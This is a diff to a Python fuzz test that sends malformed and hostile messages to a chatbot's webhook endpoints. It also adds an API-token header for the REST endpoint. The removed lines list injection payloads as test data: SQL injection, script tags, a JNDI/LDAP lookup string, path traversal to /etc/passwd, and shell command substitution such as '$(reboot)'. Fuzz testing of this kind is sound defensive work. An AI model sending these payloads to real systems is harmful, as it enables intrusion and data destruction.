@@ -19,20 +19,20 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from bench.fuzz import INJECTIONS
+from bench.fuzz import text_strategy as fuzz_texts
+
 pytestmark = pytest.mark.integration
 
 TOTAL_CASES = 1000
 MESSAGE_CASES = 100  # well-formed messages through NLU, dialogue and actions (slower)
-INJECTIONS = [
-    "'; DROP TABLE events; --", "\" OR 1=1 --", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x/a}",
-    "%s%s%s%n", "../../../../etc/passwd", "/restart", "/session_start", '/urgent_symptom{"x": 1}',
-    "\u0000\u0001\u001b[31m", "\u202e\u2066evil", "A" * 5000, "\ud7ff\ue000\uffff", "$(reboot)", "`id`",
-    "<!--#exec cmd=\"ls\"-->", "\r\nSet-Cookie: a=b", "null", "[]", "{}",
-]
 SENDERS = st.from_regex(r"\Afuzz-[A-Za-z0-9_.:@+\-]{1,40}\Z")
 CONTROL = st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=31), max_size=50)
+# the odd messages of `make bench`'s fuzz (bench/fuzz.py: punctuation runs, long
+# whitespace, emoji, Arabic, URLs, huge, lone surrogates, ...), plus Hypothesis' own text
 TEXT = st.one_of(st.text(max_size=300), CONTROL, st.sampled_from(INJECTIONS),
-                 st.lists(st.sampled_from(INJECTIONS + ["price", "pus", "😀", "سعر"]), max_size=8).map(" ".join))
+                 st.lists(st.sampled_from(INJECTIONS + ["price", "pus", "😀", "سعر"]), max_size=8).map(" ".join),
+                 fuzz_texts())
 JSON_SCALARS = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=50))
 
 
@@ -81,7 +81,9 @@ def _mounted(client: httpx.Client, url: str) -> bool:
 
 def targets(stack, client: httpx.Client) -> List[Target]:
     """Every public POST endpoint this stack serves."""
-    found = [Target("rest", f"{stack.rasa_url}/webhooks/rest/webhook"), Target("web_chat", f"{stack.web_url}/chat")]
+    found = [Target("rest", f"{stack.rasa_url}/webhooks/rest/webhook",  # for servers: the API token
+                    extra_headers={"Authorization": f"Bearer {stack.rasa_token}"}),
+             Target("web_chat", f"{stack.web_url}/chat")]
     if _mounted(client, f"{stack.rasa_url}/webhooks/whatsapp/"):
         found.append(Target("whatsapp", f"{stack.rasa_url}/webhooks/whatsapp/webhook",
                             extra_headers={"X-Hub-Signature-256": "sha256=" + "0" * 64}))
